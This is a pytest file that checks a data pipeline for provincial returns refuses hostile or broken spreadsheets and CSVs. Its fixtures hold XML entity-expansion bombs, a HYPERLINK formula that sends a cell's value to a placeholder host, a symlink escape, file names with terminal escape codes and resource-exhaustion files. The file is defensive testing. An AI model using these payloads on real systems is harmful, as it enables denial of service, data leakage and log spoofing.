"""Hostile and broken returns (issue 8, input side): every one refused or neutralised with one line
naming the file (and row, column), never a traceback; time and memory stay small."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pandas as pd
import pytest

from analysis import cli, dataset, limits
from analysis.files import json_dumps, neutralise_formula, neutralise_formulas, write_json
from analysis.form import return_workbook, save_reproducibly
from conftest import HEADERS, return_row


def _build(raw_dir: Path, tmp_path: Path, capsys) -> tuple[int, list[str]]:
    status = cli.main(["build", "--year", "2022", "--raw", str(raw_dir), "--out", str(tmp_path / "out")])
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err + captured.out
    return status, captured.err.splitlines()


def _errors(lines: list[str]) -> list[str]:
    return [line for line in lines if ": error: " in line]


def _rewrite_xlsx(path: Path, member: str, change) -> None:
    """Rewrite one XML member of an .xlsx in place with change(text) -> text."""
    with zipfile.ZipFile(path) as src:
        items = [(info, src.read(info.filename)) for info in src.infolist()]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as dst:
        for info, data in items:
            dst.writestr(info.filename, change(data.decode()).encode() if info.filename == member else data)
    path.write_bytes(buffer.getvalue())


# --- size and shape ----------------------------------------------------------------------------


def test_cells_in_column_xfd_are_never_read_fast_and_small(raw_dir, tmp_path):
    """An ~80 KB xlsx whose 20,000 rows each hold one cell in column XFD builds in seconds, < 500 MB."""
    path = raw_dir / "2022" / "10-lao-cai.xlsx"
    save_reproducibly(return_workbook(2022, [return_row()]), path)
    far = "".join(f'<row r="{r}"><c r="XFD{r}"><v>1</v></c></row>' for r in range(10, 20010))
    _rewrite_xlsx(path, "xl/worksheets/sheet1.xml", lambda xml: re.sub(
        r'<dimension ref="[^"]*"', '<dimension ref="A1:XFD20009"', xml).replace("</sheetData>", far + "</sheetData>"))
    assert path.stat().st_size < 200_000
    code = ("import resource, time; from pathlib import Path; from analysis import dataset; t = time.perf_counter(); "
            f"r = dataset.process_year(2022, Path({str(raw_dir)!r})); "
            "print(r.errors, len(r.units), time.perf_counter() - t, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)")
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
    errors, units, seconds, peak_kb = done.stdout.split()
    assert (errors, units) == ("0", "1"), done.stderr
    assert float(seconds) < 10
    assert int(peak_kb) < 500 * 1024


def test_csv_over_the_row_limit_is_refused_quickly(raw_dir, tmp_path, capsys):
    path = raw_dir / "2022" / "big.csv"
    lines = ["Năm,Tỉnh/thành phố,Đơn vị,Loại đơn vị,\"Tổng số cán bộ, viên chức, người lao động\","
             "Số cán bộ trực tiếp làm khuyến công tại cơ sở"]
    lines += ["2022,Lào Cai,Trung tâm,tỉnh,30,12"] * 200_000  # 7.6 MB: under the size limit
    path.write_text("\n".join(lines), encoding="utf-8")
    started = time.perf_counter()
    status, lines = _build(raw_dir, tmp_path, capsys)
    assert time.perf_counter() - started < 15
    assert status == 1
    assert _errors(lines) == [f"{path.resolve().as_posix()}: error: more than {limits.MAX_DATA_ROWS} data rows; "
                              "a return has one row per unit; refused"]


def test_long_text_cell_is_an_error_naming_its_cell_not_echoing_it(write_xlsx, raw_dir, tmp_path, capsys):
    write_xlsx("10-lao-cai.xlsx", [return_row(notes="x" * 30_000)])
    status, lines = _build(raw_dir, tmp_path, capsys)
    (error,) = _errors(lines)
    assert status == 1
    assert error.endswith(":5: error: sheet 'Báo cáo', cell N5: notes: text of 30000 characters is longer than the limit of 2000; shorten it")
    assert "x" * 100 not in "\n".join(lines)  # the text itself is not echoed


@pytest.mark.parametrize(("column", "typed", "message"), [
    ("staff_total", "12345678901234567890", "12345678901234567890 is more than 1000000, the largest count"),
    ("staff_total", "1000001", "1000001 is more than 1000000"),
    ("collaborator_pay_mvnd", "9" * 400, "is not a finite number"),
    ("collaborator_pay_mvnd", "2000000000", "2000000000 million VND is more than the limit of 1000000000"),
    ("staff_total", "inf", "'inf' is not a number"),
    ("staff_total", "nan", "'nan' is not a number"),
])
def test_numbers_past_the_limits_are_one_error_line(write_csv, raw_dir, tmp_path, capsys, column, typed, message):
    write_csv("10-lao-cai.csv", [return_row(**{column: typed})])
    status, lines = _build(raw_dir, tmp_path, capsys)
    (error,) = _errors(lines)
    assert status == 1
    letter = "E" if column == "staff_total" else "M"
    assert f":2: error: column {letter}: {column}: " in error and message in error
    assert len(error) < 300


def test_twenty_digit_count_in_an_xlsx_number_cell(write_xlsx, raw_dir, tmp_path, capsys):
    write_xlsx("10-lao-cai.xlsx", [return_row(commune_collaborators=12345678901234567890)])
    status, lines = _build(raw_dir, tmp_path, capsys)
    assert status == 1
    (error,) = _errors(lines)  # the cell holds the number as Excel stores it (a double)
    assert re.search(r":5: error: sheet 'Báo cáo', cell L5: commune_collaborators: 1234567890123456\d{4} is more than 1000000, the largest", error)


# --- XML attacks, links, file names ---------------------------------------------------------------


def test_billion_laughs_xlsx_says_entity_expansion_refused(write_xlsx, raw_dir, tmp_path, capsys):
    path = write_xlsx("10-lao-cai.xlsx", [return_row()])
    bomb = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
            + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
            + ']>')
    _rewrite_xlsx(path, "xl/workbook.xml", lambda xml: bomb + re.sub(r"^<\?xml[^>]*\?>", "", xml).replace(
        "<sheets>", "<sheets><x>&lol9;</x>"))
    status, lines = _build(raw_dir, tmp_path, capsys)
    (error,) = _errors(lines)
    assert status == 1
    assert error.startswith(f"{path.resolve().as_posix()}: error: not a readable .xlsx workbook: entity expansion refused")


def test_damaged_xlsx_is_one_error_line_not_a_crash(write_xlsx, raw_dir, tmp_path, capsys):
    path = write_xlsx("10-lao-cai.xlsx", [return_row()])
    with zipfile.ZipFile(path) as archive:  # garble the compressed bytes of one XML member
        info = archive.getinfo("xl/workbook.xml")
    data = bytearray(path.read_bytes())
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    data[start + 2:start + 2 + 40] = bytes(range(200, 240))
    path.write_bytes(bytes(data))
    status, lines = _build(raw_dir, tmp_path, capsys)
    (error,) = _errors(lines)
    assert status == 1
    assert error.startswith(f"{path.resolve().as_posix()}: error: not a readable .xlsx workbook")


def test_symlink_leading_outside_the_raw_folder_is_refused(write_xlsx, raw_dir, tmp_path, capsys):
    write_xlsx("10-lao-cai.xlsx", [return_row()])
    outside = tmp_path / "secret.csv"
    outside.write_text("Năm,Đơn vị\n2022,secret\n", encoding="utf-8")
    link = raw_dir / "2022" / "01-ha-noi.csv"
    link.symlink_to(outside)
    status, lines = _build(raw_dir, tmp_path, capsys)
    (error,) = _errors(lines)
    assert status == 1
    assert error.startswith(f"{link.parent.resolve().as_posix()}/01-ha-noi.csv: error: symbolic link leading "
                            "outside the raw folder")
    assert "secret\n" not in "\n".join(lines)


def test_file_names_with_control_characters_and_bad_bytes_are_escaped(write_csv, raw_dir, tmp_path, capsys):
    good = write_csv("good.csv", [return_row()])
    os.rename(good, os.fsencode(raw_dir / "2022") + b"/ok\xff\x1b[31m.csv")
    bad = write_csv("x.csv", [return_row(province="Hà Nội", staff_field=40)])
    os.rename(bad, os.fsencode(raw_dir / "2022") + b"/bad\nfile:9: error: fake.csv")
    status, lines = _build(raw_dir, tmp_path, capsys)
    (error,) = _errors(lines)
    assert status == 1
    assert "bad\\nfile:9: error: fake.csv:2: error: column F: staff_field: 40 is more than staff_total 30" in error
    assert all("\x1b" not in line for line in lines)
    # once fixed, the build writes its outputs with the escaped name (no UnicodeEncodeError)
    os.remove(os.fsencode(raw_dir / "2022") + b"/bad\nfile:9: error: fake.csv")
    status, _ = _build(raw_dir, tmp_path, capsys)
    assert status == 0
    units = dataset.load_units(2022, tmp_path / "out")
    assert units["source_file"].str.endswith("/ok\\xff\\x1b[31m.csv").all()
    provenance = dataset.load_provenance(2022, tmp_path / "out")
    assert provenance["inputs"][0]["file"].endswith("ok\\xff\\x1b[31m.csv")


# --- what the project writes ---------------------------------------------------------------------


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_neutralise_formula_each_prefix(prefix):
    text = f'{prefix}HYPERLINK("http://x/?"&A1,"click")'
    assert neutralise_formula(text) == "'" + text
    frame = neutralise_formulas(pd.DataFrame({"value": [text, "Hà Nội"], "n": [-5, 3]}))
    assert frame["value"].tolist() == ["'" + text, "Hà Nội"]
    assert frame["n"].tolist() == [-5, 3]  # numbers stay numbers, negative ones too


def test_quality_csv_neutralises_formulas_from_a_return(write_csv, raw_dir, tmp_path):
    write_csv("10-lao-cai.csv", [return_row(**{"Người lập": "=HYPERLINK(\"http://x\",\"click\")"})],
              header=[*HEADERS[:6], "Người lập"])
    result = dataset.build_year(2022, raw_dir, tmp_path / "out")
    assert result.errors == 0
    text = (tmp_path / "out" / "2022" / "quality.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in text
    assert not any(cell.startswith(("=", "+", "@")) for line in text.splitlines() for cell in line.split(","))


def test_json_is_strict(tmp_path):
    value = {"a": float("nan"), "b": [float("inf"), -float("inf"), 1.5], "c": pd.NA}
    assert json.loads(json_dumps(value)) == {"a": None, "b": [None, None, 1.5], "c": None}
    path = write_json(tmp_path / "x.json", value)
    assert "NaN" not in path.read_text() and "Infinity" not in path.read_text()


def test_indicators_json_and_csv_are_safe(sample_build, capsys):
    processed = str(sample_build.out_dir.parent)
    assert cli.main(["indicators", "--year", "2022", "--processed", processed, "--format", "json"]) == 0
    json.loads(capsys.readouterr().out, parse_constant=lambda name: pytest.fail(f"non-strict JSON: {name}"))
    assert cli.main(["indicators", "--year", "2022", "--processed", processed, "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows[0] == ["indicator", "value"]
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)


# --- .ods streamed with bounds ----------------------------------------------------------------------

_ODS_HEAD = ('<?xml version="1.0" encoding="UTF-8"?>{doctype}<office:document-content '
             'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
             'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
             'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
             '<table:table table:name="Báo cáo">')


def _ods(path: Path, rows_xml: str, doctype: str = "") -> Path:
    content = _ODS_HEAD.format(doctype=doctype) + _ods_row(*HEADERS[:6]) + rows_xml + (
        "</table:table></office:spreadsheet></office:body></office:document-content>")
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", content)
    return path


def _ods_row(*values) -> str:
    from xml.sax.saxutils import escape

    cells = "".join(
        f'<table:table-cell office:value-type="float" office:value="{v}"><text:p>{v}</text:p></table:table-cell>'
        if isinstance(v, int) else f'<table:table-cell office:value-type="string"><text:p>{escape(v)}</text:p></table:table-cell>'
        for v in values)
    return f"<table:table-row>{cells}</table:table-row>"


def test_ods_far_columns_and_repeated_rows_are_bounded(raw_dir, tmp_path, capsys):
    row = _ods_row(2022, "Lào Cai", "Trung tâm", "tỉnh", 30, 12)
    far = ('<table:table-row table:number-rows-repeated="1000000"><table:table-cell table:number-columns-repeated='
           '"16383"/><table:table-cell office:value-type="float" office:value="1"/></table:table-row>')
    _ods(raw_dir / "2022" / "10-lao-cai.ods", row + far)
    started = time.perf_counter()
    status, lines = _build(raw_dir, tmp_path, capsys)
    assert time.perf_counter() - started < 10
    assert status == 0, lines  # the far cells are never read; the return's row is
    repeated = _ods_row(2022, "Lào Cai", "Trung tâm", "tỉnh", 30, 12).replace(
        "<table:table-row>", '<table:table-row table:number-rows-repeated="1000000">')
    path = _ods(raw_dir / "2022" / "10-lao-cai.ods", repeated)
    status, lines = _build(raw_dir, tmp_path, capsys)
    assert status == 1
    assert _errors(lines) == [f"{path.resolve().as_posix()}: error: sheet 'Báo cáo': more than 5000 data rows; "
                              "a return has one row per unit; refused"]


def test_ods_billion_laughs_is_refused(raw_dir, tmp_path, capsys):
    doctype = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    _ods(raw_dir / "2022" / "10-lao-cai.ods", _ods_row(2022, "Lào Cai", "&b;", "tỉnh", 30, 12).replace("&amp;b;", "&b;"),
         doctype)
    status, lines = _build(raw_dir, tmp_path, capsys)
    (error,) = _errors(lines)
    assert status == 1
    assert "not a readable .ods spreadsheet: entity expansion refused" in error


def test_long_extra_header_is_named_cut_not_echoed(write_csv, raw_dir, tmp_path, capsys):
    header = "Người lập " + "y" * 5000
    write_csv("10-lao-cai.csv", [return_row(**{header: "z"})], header=[*HEADERS[:6], header])
    status, lines = _build(raw_dir, tmp_path, capsys)
    assert status == 0
    assert "y" * 100 not in "\n".join(lines)
    quality = dataset.load_quality(2022, tmp_path / "out")
    assert quality["column"].str.len().max() <= limits.SHOWN_VALUE_CHARS + 1
